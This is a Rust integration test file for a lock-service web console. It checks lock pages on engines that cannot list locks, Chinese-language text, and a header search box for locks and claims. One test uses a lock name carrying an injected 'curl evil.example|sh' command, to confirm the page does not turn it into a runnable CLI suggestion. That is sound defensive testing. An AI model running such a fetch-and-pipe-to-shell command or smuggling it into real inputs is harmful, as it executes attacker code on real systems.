//! The pages of locks, on engines that list locks and on those that only know a lock by its name.

use oncegate_testkit::redis_server::RedisServer;
use serde_json::json;

use super::browser::{Browser, location};
use super::find::typed;
use super::{ROLES, operated, operators};
use crate::support::caller::{app, caller};
use crate::support::gateway;

const CHINESE: (&str, &str) = ("accept-language", "zh-CN");

#[tokio::test]
async fn a_page_of_an_engine_that_cannot_list_says_so_and_finds_a_lock_by_its_name() {
    let Some(server) = RedisServer::start().await else { return };
    let gateway = gateway::on(server.url()).config(&operators(&ROLES)).patient().start().await;
    gateway.client().post("/v1/locks/nightly-report/holds", &json!({ "lease": "10m" })).await.expect(201);
    let browser = Browser::signed_in(&gateway, "view").await;
    for (fields, said, free) in [
        (&[][..], "cannot list its locks, so none is shown here, whether held or free", "The lock is free"),
        (&[CHINESE][..], "此应用的存储不能列出锁，所以这里不显示任何锁", "锁是空闲的"),
    ] {
        let page = browser.send("GET", "/console/locks", fields, "").await.expect(200).text;
        assert!(page.contains(said) && page.contains("action=\"/console/locks/show\""), "{page}");
        assert!(page.contains("oncegate lock show --app default") && !page.contains("oncegate lock list"), "{page}");
        let lock = browser.send("GET", "/console/locks/default/daily-report", fields, "").await.expect(200).text;
        assert!(lock.contains(free), "{lock}");
    }
    let named = browser.get("/console/locks/show?app=default&name=nightly-report").await;
    assert_eq!((named.status, location(&named)), (303, "/console/locks/default/nightly-report"));
    let lock = browser.get(location(&named)).await.expect(200).text;
    assert!(lock.contains("exclusive") && !lock.contains("The lock is free"), "{lock}");
    let linked = browser.get("/console/locks/default/x%3Bcurl%20evil.example%7Csh").await.expect(200).text;
    assert!(linked.contains("x;curl") && !linked.contains("oncegate lock show"), "no command with it: {linked}");
    let absent = browser.get("/console/locks/none/nightly-report").await.expect(200).text;
    assert!(!absent.contains("The lock is free"), "its app is not known: {absent}");
}

#[tokio::test]
async fn the_box_in_the_header_finds_a_lock() {
    let find = "[apps.bank.operations.\"order.submit\"]\nconsole_find = '{\"order_id\": \"{text}\"}'\n";
    let gateway = operated().config(&format!("{}{}{find}", app("shop"), app("bank"))).start().await;
    let bank = caller(&gateway, "bank");
    bank.post("/v1/locks/nightly-report/holds", &json!({ "lease": "10m" })).await.expect(201);
    let order = json!({ "operation": "order.submit", "contents": { "order_id": "bank/A-7" } });
    let granted = bank.post("/v1/claims", &order).await.expect(201);
    let claim = format!("/console/claims/bank/{}", granted.body["global_id"].as_str().unwrap());
    for role in ROLES {
        let browser = Browser::signed_in(&gateway, role).await;
        for (text, page) in [
            (" bank/nightly-report ", "/console/locks/bank/nightly-report"),
            ("shop/nightly-report", "/console/locks/shop/nightly-report"),
            ("bank/A-7", &claim),
        ] {
            let found = typed(&browser, "/console/", text).await;
            assert_eq!((found.status, location(&found)), (303, page), "{role}: {text}: {}", found.text);
        }
        for text in ["none/nightly-report", "nightly-report"] {
            let absent = typed(&browser, "/console/", text).await.expect(200).text;
            assert!(absent.contains("No live claim"), "{text}: {absent}");
        }
    }
    let open = operated().start().await;
    open.client().post("/v1/locks/nightly-report/holds", &json!({ "lease": "10m" })).await.expect(201);
    let browser = Browser::signed_in(&open, "view").await;
    let found = typed(&browser, "/console/", "nightly-report").await;
    assert_eq!((found.status, location(&found)), (303, "/console/locks/default/nightly-report"), "of the only app");
    let absent = typed(&browser, "/console/", "daily-report").await.expect(200).text;
    assert!(absent.contains("A lock is found by app and name"), "{absent}");
}
